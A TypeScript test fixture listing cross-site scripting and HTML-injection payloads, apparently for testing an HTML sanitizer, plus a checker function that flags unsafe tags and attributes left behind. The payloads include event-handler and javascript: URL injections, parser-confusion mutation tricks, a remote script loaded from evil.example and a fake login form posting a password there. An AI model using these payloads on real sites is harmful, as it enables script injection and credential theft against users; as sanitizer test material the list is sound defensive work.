/** Attack samples for HTML sanitizing, used in tests of the server and the browser. */
export const hostileArticles: readonly string[] = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<table><td><a href="javascript:alert(1)">x</a><script>alert(1)</script></td></table>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/%5cevil" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example" target="_self" rel="opener">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url("https://evil.example/")}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<div id="page" class="dialog" data-x="1">x</div>',
  '<form action="https://evil.example"><input name="password"><button>Login</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<p onmouseover="alert(1)">x</p>',
  '<td background="javascript:alert(1)" colspan="99999999">x</td>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<p>1 < 2 && "3" > 2</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<b><i><u>'.repeat(300),
  `${'<table><tr><td>'.repeat(60)}<img src=x onerror=alert(1)>`,
]

/** Returns the remaining dangers in a document that contains a sanitized article; empty if it is clean. */
export function findDangers(root: ParentNode, allowed: { tags: readonly string[]; attributes: readonly string[] }): string[] {
  const dangers: string[] = []
  for (const element of root.querySelectorAll('*')) {
    const name = element.nodeName.toLowerCase()
    if (!allowed.tags.includes(name)) dangers.push(`<${name}>`)
    for (const { name: attribute, value } of element.attributes) {
      if (!allowed.attributes.includes(attribute)) dangers.push(`${name} ${attribute}`)
      if (attribute === 'href' && !/^(?:https?:\/\/|mailto:|\/(?![/\\]))/.test(value)) dangers.push(`${name} ${value}`)
      if (attribute === 'target' && (value !== '_blank' || element.getAttribute('rel') !== 'noopener noreferrer'))
        dangers.push(`${name} ${attribute}`)
      if (/span$/.test(attribute) && Number(value) > 50) dangers.push(`${name} ${attribute}`)
    }
  }
  return dangers
}
